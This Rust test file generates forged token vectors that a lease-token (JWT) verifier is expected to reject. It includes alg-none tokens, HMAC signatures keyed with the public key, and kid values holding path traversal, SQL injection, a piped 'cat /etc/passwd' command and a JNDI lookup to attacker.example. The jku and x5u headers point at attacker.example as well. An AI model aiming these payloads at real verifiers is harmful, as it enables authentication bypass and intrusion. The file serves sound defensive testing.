//! What a header says of a lease: algorithms, types, names of keys, and what must not be there.

use super::super::{
    forge::{b64, header, hmac_sha256, hmac_sha512, jwk, kid, quoted, sign, stranger, vendor, with_signature},
    format::Vectors,
};
use super::{TYP, claims, head, with_header};

pub(super) fn algorithms(all: &mut Vectors) {
    for alg in [
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        "HS256",
        "HS384",
        "HS512",
        "RS256",
        "PS256",
        "ES256",
        "ES256K",
        "ES384",
        "Ed448",
        "eddsa",
        "EDDSA",
        "ed25519",
        "EdDSA ",
        " EdDSA",
        "EdDSA-none",
        "Ed25519ph",
        "Ed25519ctx",
    ] {
        all.add(format!("alg-{}", b64(alg)), "algorithm", with_header("alg", &quoted(alg)));
    }
    for (id, alg) in [("null", "null"), ("number", "1"), ("true", "true"), ("array", "[\"EdDSA\"]"), ("object", "{}")] {
        all.add(format!("alg-{id}"), "algorithm", with_header("alg", alg));
    }
    all.add("alg-missing", "algorithm", sign(head().without("alg").text(), claims().text(), &vendor()));
    for (id, alg) in [("none", "none"), ("eddsa", "EdDSA")] {
        let unsigned = format!("{}.{}.", b64(head().with("alg", &quoted(alg)).text()), b64(claims().text()));
        all.add(format!("alg-{id}-without-signature"), "not_compact", unsigned);
    }
    // The classic confusion: HMAC keyed with what everybody knows.
    let public = vendor().verifying_key().to_bytes();
    let key_texts = [
        ("bytes", public.to_vec()),
        ("x", b64(public).into_bytes()),
        ("hex", data_encoding::HEXLOWER.encode(&public).into_bytes()),
    ];
    for (name, secret) in key_texts {
        let token = with_header("alg", "\"HS256\"");
        let input = token.rsplit_once('.').unwrap().0;
        let mac = hmac_sha256(&secret, input.as_bytes());
        all.add(format!("hs256-keyed-with-public-{name}"), "not_compact", with_signature(&token, mac));
        for alg in ["HS512", "EdDSA"] {
            let token = with_header("alg", &quoted(alg));
            let input = token.rsplit_once('.').unwrap().0;
            let mac = hmac_sha512(&secret, input.as_bytes());
            let expected = if alg == "EdDSA" { "signature" } else { "algorithm" };
            let id = format!("{}-with-an-hmac-keyed-with-public-{name}", alg.to_lowercase());
            all.add(id, expected, with_signature(&token, mac));
        }
    }
}

pub(super) fn types_and_keys(all: &mut Vectors) {
    for typ in [
        "JWT",
        "jwt",
        "lease",
        "LEASE+JWT",
        "Lease+JWT",
        "application/lease+jwt",
        "lease+jwt ",
        "keys+jwt",
        "delegation+jwt",
        "revocations+jwt",
        "",
    ] {
        all.add(format!("typ-{}", b64(typ)), "type", with_header("typ", &quoted(typ)));
    }
    for (id, typ) in [("null", "null"), ("number", "1"), ("array", "[\"lease+jwt\"]")] {
        all.add(format!("typ-{id}"), "type", with_header("typ", typ));
    }
    all.add("typ-missing", "type", sign(head().without("typ").text(), claims().text(), &vendor()));
    for (id, kid) in [("null", "null"), ("number", "7"), ("array", "[]"), ("object", "{}"), ("true", "true")] {
        all.add(format!("kid-{id}"), "no_key_id", with_header("kid", kid));
    }
    all.add("kid-missing", "no_key_id", sign(head().without("kid").text(), claims().text(), &vendor()));
    let name = kid(&vendor());
    let twisted = [
        ("empty", String::new()),
        ("other", "other".into()),
        ("path", "../../../../etc/passwd".into()),
        ("absolute-path", "/dev/null".into()),
        ("encoded-path", "%2e%2e%2f%2e%2e%2fdev%2fnull".into()),
        ("file-url", "file:///dev/null".into()),
        ("url", "https://attacker.example/key.json".into()),
        ("sql", "x' UNION SELECT 'AAAA' --".into()),
        ("command", "| cat /etc/passwd".into()),
        ("template", "${jndi:ldap://attacker.example/a}".into()),
        ("nul", format!("{name}\\u0000")),
        ("nul-before-path", "key\\u0000../../dev/null".into()),
        ("trailing-space", format!("{name} ")),
        ("line-break", format!("{name}\\n")),
        ("padded", format!("{name}=")),
        ("upper-case", name.to_uppercase()),
        ("prefix", name[..42].into()),
        ("suffixed", format!("{name}A")),
        ("the-key-itself", jwk(&vendor()).x),
        ("number-of-the-key", "0".into()),
        ("long", "A".repeat(4000)),
        ("of-a-stranger", kid(&stranger())),
    ];
    for (id, kid) in twisted {
        all.add(format!("kid-{id}"), "unknown_key", with_header("kid", &quoted(&kid)));
    }
    let theirs = header(TYP, &stranger());
    all.add("signed-by-a-stranger", "unknown_key", sign(theirs.text(), claims().text(), &stranger()));
    all.add("signed-by-a-stranger-in-our-name", "signature", sign(head().text(), claims().text(), &stranger()));
}

pub(super) fn forbidden_headers(all: &mut Vectors) {
    let ours = serde_json::to_string(&jwk(&vendor())).unwrap();
    let theirs = serde_json::to_string(&jwk(&stranger())).unwrap();
    for (id, name, value) in [
        ("crit-exp", "crit", "[\"exp\"]"),
        ("crit-empty", "crit", "[]"),
        ("crit-null", "crit", "null"),
        ("crit-b64", "crit", "[\"b64\"]"),
        ("jwk-ours", "jwk", ours.as_str()),
        ("jwk-null", "jwk", "null"),
        ("jku", "jku", "\"https://vendor.example/.well-known/jwks.json\""),
        ("jku-elsewhere", "jku", "\"https://attacker.example/jwks.json\""),
        ("x5u", "x5u", "\"https://attacker.example/cert.pem\""),
        ("x5c", "x5c", "[\"MIIB\"]"),
        ("x5t", "x5t", "\"AAAA\""),
        ("x5t-s256", "x5t#S256", "\"AAAA\""),
        ("b64-false", "b64", "false"),
        ("zip", "zip", "\"DEF\""),
    ] {
        all.add(format!("header-{id}"), "forbidden_header", with_header(name, value));
    }
    let own = header(TYP, &stranger()).with("jwk", &theirs);
    all.add("header-jwk-theirs", "forbidden_header", sign(own.text(), claims().text(), &stranger()));
    let named = head().with("jwk", &theirs);
    all.add("header-jwk-theirs-in-our-name", "forbidden_header", sign(named.text(), claims().text(), &stranger()));
    let spelled = head().and("\"j\\u0077k\"", &theirs);
    all.add("header-jwk-in-escapes", "forbidden_header", sign(spelled.text(), claims().text(), &stranger()));
}
